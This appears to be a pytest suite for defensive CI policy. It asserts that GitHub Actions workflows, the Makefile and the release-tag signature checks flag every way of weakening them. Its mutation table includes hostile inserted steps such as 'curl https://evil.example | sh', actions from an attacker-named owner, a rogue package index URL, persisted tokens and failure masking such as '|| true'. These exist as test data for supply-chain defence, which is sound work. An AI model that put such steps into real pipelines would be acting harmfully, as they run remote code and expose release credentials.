"""The workflows are what .github/policy.toml says, to the last key; every way to weaken one is red."""

from __future__ import annotations

import re
import shutil
import subprocess
import tomllib
from collections.abc import Callable
from copy import deepcopy
from functools import cache
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("ruamel.yaml", reason="on the main interpreter only")

from ruamel.yaml import YAML

from tools import release, workflows

ROOT = Path(__file__).resolve().parent.parent
Tree = Path
Change = Callable[[Any], object]
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    """What the policy is about, to break."""
    shutil.copytree(ROOT / ".github", tmp_path / ".github")
    shutil.copy(ROOT / "Makefile", tmp_path)
    return tmp_path


def test_the_workflows_are_what_the_policy_says(tree: Tree) -> None:
    assert workflows.faults(tree) == []
    assert len(list((tree / workflows.FOLDER).iterdir())) == 8


POLICY = tomllib.loads((ROOT / workflows.POLICY).read_text(encoding="utf-8"))


@cache
def parsed(name: str) -> dict[str, Any]:
    return workflows.read(ROOT / workflows.FOLDER / name)


def edited(name: str, change: Change) -> list[str]:
    """The faults after a change to what a workflow's YAML says."""
    document = deepcopy(parsed(name))
    change(document)
    return list(workflows.differences(workflows.wanted(POLICY, name), workflows.plain(document), name))


def rewritten(tree: Tree, name: str, old: str, new: str) -> list[str]:
    """The faults after a change to a workflow's text."""
    path = tree / workflows.FOLDER / name
    text = path.read_text(encoding="utf-8")
    assert old in text, f"there is no {old!r} to change any more"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return list(workflows.workflow_faults(POLICY, name, path))


def step(job: str, word: str) -> Callable[[Any], Any]:
    """Finds the step of a job whose `run`, `uses` or `id` holds the word."""
    return lambda doc: next(
        one for one in doc["jobs"][job]["steps"] if word in one.get("run", "") + one.get("uses", "") + one.get("id", "")
    )


def setting(job: str, word: str, **keys: Any) -> Change:
    return lambda doc: step(job, word)(doc).update({key.replace("_", "-"): value for key, value in keys.items()})


def softened(job: str, word: str, change: Callable[[str], str]) -> Change:
    def run(doc: Any) -> None:
        one = step(job, word)(doc)
        before = one["run"]
        one["run"] = change(before)
        assert one["run"] != before

    return run


def without(job: str, word: str) -> Change:
    return lambda doc: doc["jobs"][job]["steps"].remove(step(job, word)(doc))


def less(job: str, word: str, pattern: str) -> Change:
    return softened(job, word, lambda text: re.sub(pattern, "", text))


def inputs(job: str, word: str, **keys: Any) -> Change:
    return lambda doc: (
        step(job, word)(doc)
        .setdefault("with", {})
        .update({key.replace("_", "-"): value for key, value in keys.items()})
    )


def job(name: str, **keys: Any) -> Change:
    return lambda doc: doc["jobs"][name].update({key.replace("_", "-"): value for key, value in keys.items()})


def top(**keys: Any) -> Change:
    return lambda doc: doc.update({key.replace("_", "-"): value for key, value in keys.items()})


def on(**keys: Any) -> Change:
    return lambda doc: doc["on"].update(keys)


def more(name: str, **one: Any) -> Change:
    return lambda doc: doc["jobs"][name]["steps"].append(one)


def earlier(name: str, **one: Any) -> Change:
    return lambda doc: doc["jobs"][name]["steps"].insert(0, one)


WEAKER: dict[str, tuple[str, Change]] = {
    # Rights.
    "rights for all": ("test.yml", top(permissions="write-all")),
    "rights at the top": ("ci.yml", top(permissions={"contents": "write"})),
    "no word on rights": ("ci.yml", lambda doc: doc.pop("permissions")),
    "an identity for a job that runs our code": ("build.yml", job("build", permissions={"id-token": "write"})),
    "an identity for a gate": ("audit.yml", job("audit", permissions={"contents": "read", "id-token": "write"})),
    "rights of a job taken for granted": ("test.yml", lambda doc: doc["jobs"]["test"].pop("permissions")),
    "publishing that may write": ("release.yml", job("publish", permissions={"contents": "write"})),
    # Actions.
    "another owner's action": ("ci.yml", setting("dependencies", "checkout", uses=f"evil/checkout@{SHA}")),
    "an action more": ("test.yml", more("test", uses=f"actions/cache@{SHA}")),
    "another commit": ("test.yml", setting("test", "checkout", uses=f"actions/checkout@{SHA}")),
    "a tag": ("test.yml", setting("test", "checkout", uses="actions/checkout@v7.0.1")),
    "an image": ("release.yml", job("publish", container="python:3.13")),
    "a service": ("test.yml", job("test", services={"db": {"image": "postgres"}})),
    "a workflow from elsewhere": ("release.yml", job("build", uses=f"evil/waitbus/.github/workflows/build.yml@{SHA}")),
    "every secret handed on": ("release.yml", job("test", secrets="inherit")),
    # Machines.
    "somebody's machine": ("build.yml", job("attest", runs_on="self-hosted")),
    "somebody's machines": ("release.yml", job("publish", runs_on=["self-hosted", "linux"])),
    "a group of machines": ("release.yml", job("publish", runs_on={"group": "ours"})),
    "a machine in the matrix": ("test.yml", lambda doc: doc["jobs"]["test"]["strategy"]["matrix"].update(os=["own"])),
    # Gates that fail in silence.
    "diff | cat": ("build.yml", softened("compare", "diff", lambda text: text.replace("one two", "one two | cat"))),
    "; true": ("audit.yml", softened("audit", "make audit", lambda text: f"{text}; true")),
    "|| true": ("test.yml", softened("test", "make test", lambda text: f"{text} || true")),
    "a shell that goes on": ("build.yml", setting("compare", "diff", shell="bash {0}")),
    "a shell for all": ("build.yml", top(defaults={"run": {"shell": "bash {0}"}})),
    "a shell for a job": ("build.yml", job("compare", defaults={"run": {"shell": "bash {0}"}})),
    "set +e": ("build.yml", softened("compare", "diff", lambda text: f"set +e\n{text}")),
    "a step that may fail": ("audit.yml", setting("audit", "make audit", continue_on_error=True)),
    "a job that may fail": ("audit.yml", job("audit", continue_on_error=True)),
    "a step on a condition": ("audit.yml", setting("audit", "make audit", **{"if": "${{ false }}"})),
    "a job on a condition": ("release.yml", job("tag", **{"if": "github.actor != 'x'"})),
    "publishing whatever failed": ("release.yml", job("publish", **{"if": "always()"})),
    "in another folder": ("audit.yml", setting("audit", "make audit", working_directory="/tmp")),
    "by another make": ("audit.yml", setting("audit", "make audit", env={"MAKEFLAGS": "-i"})),
    "in another environment": ("audit.yml", top(env={"BASH_ENV": "./x"})),
    "for no time": ("audit.yml", lambda doc: doc["jobs"]["audit"].pop("timeout-minutes")),
    "with a matrix of nothing": ("test.yml", job("test", strategy={"matrix": {"os": [], "python": []}})),
    # Gates that are gone.
    "no comparison": ("build.yml", less("compare", "diff", r"diff .*\n")),
    "no count": ("build.yml", less("compare", "diff", r"test .*\n")),
    "nothing held to the tree": ("build.yml", without("compare", "tools.contents")),
    "no osv-scanner": ("audit.yml", without("audit", "osv-scanner")),
    "no merge-base": ("release.yml", without("tag", "merge-base")),
    "no signature of the tag": ("release.yml", without("tag", "tools.release")),
    "the signers of the tag itself": ("release.yml", less("tag", "tools.release", " --signers origin/main")),
    "a network in the build": ("build.yml", less("build", "unshare", r"unshare --net -- \\\n")),
    "a backend without hashes": ("build.yml", less("build", "pip install", "--require-hashes ")),
    "an audit that skips": ("audit.yml", less("audit", "make audit", " STRICT=1")),
    "a part of the suite": ("test.yml", softened("test", "make test", lambda text: f"{text} ARGS=-kwire")),
    "no digest from the other job": ("release.yml", less("publish", "SUMS", r"echo .*\n")),
    "an artifact by its name": ("release.yml", inputs("publish", "download", artifact_ids="", name="release")),
    "an artifact of another run": ("release.yml", inputs("publish", "download", run_id="1", github_token="x")),
    "a digest that may differ": ("release.yml", inputs("publish", "download", digest_mismatch="ignore")),
    "called from elsewhere": ("build.yml", without("attest", "GITHUB_REPOSITORY")),
    "publishing untested": ("release.yml", job("publish", needs=["build"])),
    "building unaudited": ("release.yml", job("build", needs=["test"])),
    "publishing unprotected": ("release.yml", lambda doc: doc["jobs"]["publish"].pop("environment")),
    "another environment": ("release.yml", lambda doc: doc["jobs"]["publish"]["environment"].update(name="test")),
    "a job that is gone": ("release.yml", lambda doc: doc["jobs"].pop("audit")),
    "a job more": ("release.yml", lambda doc: doc["jobs"].update(more=doc["jobs"]["tag"])),
    # How files are published.
    "what is there already is well": ("release.yml", inputs("publish", "pypi-publish", skip_existing=True)),
    "another index": ("release.yml", inputs("publish", "pypi-publish", repository_url="https://evil.example/legacy/")),
    "no attestations": ("release.yml", inputs("publish", "pypi-publish", attestations=False)),
    "attestations, as text": ("release.yml", inputs("publish", "pypi-publish", attestations="false")),
    "metadata that nobody checks": ("release.yml", inputs("publish", "pypi-publish", verify_metadata=False)),
    "a password": ("release.yml", inputs("publish", "pypi-publish", password="${{ secrets.PYPI }}")),
    "another folder": ("release.yml", inputs("publish", "pypi-publish", packages_dir="other/")),
    "a rehearsal that goes live": ("rehearse.yml", inputs("publish", "pypi-publish", repository_url="")),
    "every release the latest": ("release.yml", less("release", "gh release create", "kind=--prerelease\n")),
    "curl | sh before signing": ("build.yml", earlier("attest", run="curl https://evil.example | sh")),
    "curl | sh among the checks": ("build.yml", softened("attest", "sbom.cdx", lambda text: f"{text}curl x | sh\n")),
    "curl | sh before publishing": ("release.yml", more("publish", run="curl https://evil.example | sh")),
    "signing what was not compared": ("build.yml", inputs("attest", "attest@", subject_path="*")),
    # When.
    "any tag": ("release.yml", lambda doc: doc["on"]["push"].update(tags=["*"])),
    "any push": ("release.yml", lambda doc: doc["on"]["push"].update(branches=["main"])),
    "by hand": ("release.yml", on(workflow_dispatch=None)),
    "by a stranger": ("ci.yml", on(pull_request_target=None)),
    "after another run": ("ci.yml", on(workflow_run={"workflows": ["ci"]})),
    "on a comment": ("ci.yml", on(issue_comment=None)),
    "not on every change": ("ci.yml", lambda doc: doc["on"]["push"].update({"paths-ignore": ["src/**"]})),
    "two releases at a time": ("release.yml", lambda doc: doc.pop("concurrency")),
    # Left behind.
    "a token that stays": ("audit.yml", inputs("audit", "checkout", persist_credentials=True)),
    "a token that stays, by default": ("audit.yml", lambda doc: step("audit", "checkout")(doc).pop("with")),
    "another repository's code": ("audit.yml", inputs("audit", "checkout", repository="evil/waitbus")),
    "another commit's code": ("build.yml", inputs("build", "checkout", ref="evil")),
    "a cache": ("test.yml", inputs("test", "setup-python", cache="pip")),
    "another interpreter": ("build.yml", inputs("build", "setup-python", architecture="x86")),
}  # fmt: skip


@pytest.mark.parametrize("name", WEAKER)
def test_what_is_weaker_is_red(name: str) -> None:
    file, change = WEAKER[name]
    assert edited(file, lambda doc: None) == []
    assert edited(file, change)


def test_what_a_parser_wrote_back_is_the_same_and_a_change_in_it_is_red(tree: Tree) -> None:
    yaml = YAML()
    yaml.width = 1000
    path = tree / workflows.FOLDER / "audit.yml"
    document = yaml.load(path)
    yaml.dump(document, path)
    assert workflows.faults(tree) == []
    WEAKER["; true"][1](document)
    yaml.dump(document, path)
    (fault,) = workflows.faults(tree)
    assert fault.startswith("audit.yml.jobs.audit.steps.4.run is ")


CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (CHECKOUT, CHECKOUT.replace("3d3c42e", "3d3c42f")),  # under the right tag
        (CHECKOUT, CHECKOUT.replace("v7.0.1", "v7.0.0")),
        (CHECKOUT, CHECKOUT.partition(" #")[0]),
        (CHECKOUT, f"{CHECKOUT} and more"),
        (CHECKOUT, CHECKOUT.replace("actions/", "act\N{CYRILLIC SMALL LETTER I}ons/")),
        # Written otherwise than the rest, with the same meaning.
        (
            "    permissions:\n      contents: read # to check out\n",
            "    permissions:\n            id-token:   write\n",
        ),
        ("    permissions:\n      contents: read # to check out\n", "    permissions: {id-token: write}\n"),
        ("    permissions:\n", '    "permissions":\n      "id-token": "write"\n'),
        ("    permissions:\n", "    permissions: &a\n"),
        ("permissions: {}\n", "permissions: !!map {}\n"),
        ("permissions: {}\n", "permissions: {}\npermissions: write-all\n"),
        ("name: test\n", "%YAML 1.1\n---\nname: test\n"),
        ("name: test\n", "name: test\nrun-name: x\n"),
        ("permissions: {}\n", "permissions: {}\n---\npermissions: {}\n"),
        ("name: test\n", "name: [\n"),
        ("name: test\n", "- name: test\n"),
    ],
)
def test_no_way_to_write_it_hides_a_change(tree: Tree, old: str, new: str) -> None:
    assert rewritten(tree, "test.yml", old, new)


def test_display_names_and_comments_are_free(tree: Tree) -> None:
    assert rewritten(tree, "test.yml", "name: test\n", "# a word\nname: the suite\n") == []
    assert edited("test.yml", setting("test", "make test", name="the suite")) == []


@pytest.mark.parametrize("name", ["more.yml", "more.yaml", "sub/more.yml"])
def test_a_workflow_that_the_policy_does_not_name_is_red(tree: Tree, name: str) -> None:
    path = tree / workflows.FOLDER / name
    path.parent.mkdir(exist_ok=True)
    path.write_text("name: more\n")
    assert workflows.faults(tree) == [f"{name}: is not in the policy"]


def test_a_workflow_that_is_gone_is_red(tree: Tree) -> None:
    (tree / workflows.FOLDER / "audit.yml").unlink()
    assert workflows.faults(tree) == ["audit.yml: is not there"]


@pytest.mark.parametrize("line", ["        - evil/*\n", "  unpinned-uses:\n    disable: true\n"])
def test_zizmor_allows_those_actions_and_no_others(tree: Tree, line: str) -> None:
    path = tree / workflows.ZIZMOR
    path.write_text(path.read_text().replace("  self-repository:", f"{line}  self-repository:"))
    assert workflows.faults(tree)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("-m tools.audit --uv $(UV)", "-m tools.audit --uv $(UV) || true"),
        ("\t@$(BIN)/python -m tools.reproduce", "\t-@$(BIN)/python -m tools.reproduce"),
        (" $(if $(STRICT),--strict)\n", "\n"),
        ("test: lint $(PREVIOUS)", "test: $(PREVIOUS)"),
        ("\t$(BIN)/mypy --no-error-summary $(TYPED)\n", ""),
        ("help:", ".IGNORE:\n\nhelp:"),
        ("help:", "MAKEFLAGS += --ignore-errors\n\nhelp:"),
        ("help:", "SHELL = /bin/true\n\nhelp:"),
        ("clean:", "audit:\n\t@true\n\nclean:"),
        ("help:", "include more.mk\n\nhelp:"),
        ("help:", "help audit:\n\t@true\n\nhelp:"),
        ("help:", "BIN = /tmp\n\nhelp:"),
        ("help:", "override TYPED :=\n\nhelp:"),
        ("TYPED := $(wildcard src tests benchmarks tools)", "TYPED := src"),
        ("venv: $(STAMP)", "venv:"),
    ],
)
def test_a_gate_that_does_less_in_the_makefile_is_red(tree: Tree, old: str, new: str) -> None:
    path = tree / "Makefile"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    assert [fault for fault in workflows.faults(tree) if fault.startswith("Makefile")]


def test_the_publishers_tools_are_those_of_the_action_that_publishes() -> None:
    commit = POLICY["actions"]["pypi-publish"].partition("@")[2].partition(" ")[0]
    assert commit in (ROOT / "packaging" / "publisher.py").read_text(encoding="utf-8")


def test_only_jobs_that_run_none_of_our_code_may_ask_for_an_identity() -> None:
    for name in ("build.yml", "release.yml", "rehearse.yml"):
        for key, found in workflows.read(ROOT / workflows.FOLDER / name)["jobs"].items():
            if "id-token" in found["permissions"] and "steps" in found:
                assert key in ("attest", "publish")
                assert not any("checkout" in one.get("uses", "") for one in found["steps"])


def test_a_tag_is_released_only_with_its_version_and_a_dated_entry() -> None:
    source = '__version__ = "1.2.3"\n'
    dated, undated = "## [1.2.3] - 2026-01-02\n", "## [1.2.3] - unreleased\n"
    assert list(release.faults("v1.2.3", source, dated)) == []
    assert len(list(release.faults("v1.2.4", source, dated))) == 1
    assert len(list(release.faults("v1.2.3", source, undated))) == 1
    assert len(list(release.faults("v1.2.3", "", dated))) == 2


@pytest.mark.skipif(not shutil.which("ssh-keygen") or not shutil.which("git"), reason="needs git and ssh-keygen")
def test_a_tag_is_released_only_with_a_signature_of_one_who_may(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("ann", "eve"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", name], check=True)

    def git(*arguments: str) -> None:
        who = ["-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "gpg.format=ssh"]
        subprocess.run(["git", *who, *arguments], check=True, capture_output=True)

    def commit(signers: str) -> None:
        (tmp_path / "packaging").mkdir(exist_ok=True)
        (tmp_path / release.SIGNERS).write_text(signers)
        git("add", release.SIGNERS)
        git("commit", "-m", "x")

    git("init")
    commit("# nobody yet\n")
    assert "names no key" in next(release.signature_faults("v1", "HEAD"))
    key = (tmp_path / "ann.pub").read_text().rsplit(" ", 1)[0]
    commit(f'ann@example.org namespaces="git" {key}\n')
    git("-c", f"user.signingkey={tmp_path}/ann.pub", "tag", "-s", "-m", "v1", "v1")
    git("-c", f"user.signingkey={tmp_path}/eve.pub", "tag", "-s", "-m", "v2", "v2")
    git("tag", "-a", "-m", "v3", "v3")
    git("tag", "v4")
    assert list(release.signature_faults("v1", "HEAD")) == []
    for tag, word in (("v2", "No principal"), ("v3", "no signature"), ("v4", "non-tag"), ("v5", "not found")):
        (fault,) = release.signature_faults(tag, "HEAD")
        assert word in fault
    git("commit", "--allow-empty", "-m", "y")
    commit("# ann has left\n")
    assert list(release.signature_faults("v1", "HEAD^^")) == []
    assert list(release.signature_faults("v1", "HEAD"))
